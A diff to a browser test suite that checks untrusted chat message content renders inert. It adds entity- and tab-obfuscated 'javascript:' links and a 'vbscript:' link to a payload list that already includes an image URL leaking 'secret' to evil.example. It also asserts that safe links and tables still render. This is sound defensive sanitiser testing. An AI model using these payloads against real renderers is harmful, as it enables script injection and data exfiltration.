@@ -14,6 +14,10 @@ const PAYLOADS = [
   "![leak](https://evil.example/pixel.png?d=secret)",
   '<img src="https://evil.example/raw.png">',
   "```html\n<script>window.__pwned = 'code'</script>\n```",
+  // The sanitiser reads a scheme as the browser does: entities decoded, tabs ignored.
+  "[entity](&#106;avascript:window.__pwned='entity')",
+  "[tab](java\tscript:window.__pwned='tab')",
+  "[vb](vbscript:msgbox(1)) and <https://ok.example/page>\n\n| a | b |\n|---|---|\n| 1 | 2 |",
   "**bold** <b onmouseover=\"window.__pwned='hover'\">hover me</b>",
 ];
 
@@ -85,6 +89,13 @@ describe("untrusted message content renders inert", { timeout: 90_000 }, () => {
         // Raw HTML is shown as text, not dropped silently: the reader sees what was sent.
         scriptShownAsText: contents[0]?.textContent?.includes("<script>") ?? false,
         inlineScripts: [...document.scripts].filter((s) => !s.src).length,
+        // What is safe still renders: a web link (opening elsewhere) and a table.
+        safeLink: all.some(
+          (e) =>
+            e.getAttribute("href") === "https://ok.example/page" &&
+            e.getAttribute("rel")?.includes("noopener"),
+        ),
+        tables: all.filter((e) => e.tagName === "TABLE").length,
       };
     });
     expect(report).toEqual({
@@ -95,6 +106,8 @@ describe("untrusted message content renders inert", { timeout: 90_000 }, () => {
       remoteImgs: [],
       scriptShownAsText: true,
       inlineScripts: 0,
+      safeLink: true,
+      tables: 1,
     });
     expect(outside).toEqual([]);
     expect(a.errors.filter((e) => e.startsWith("pageerror"))).toEqual([]);
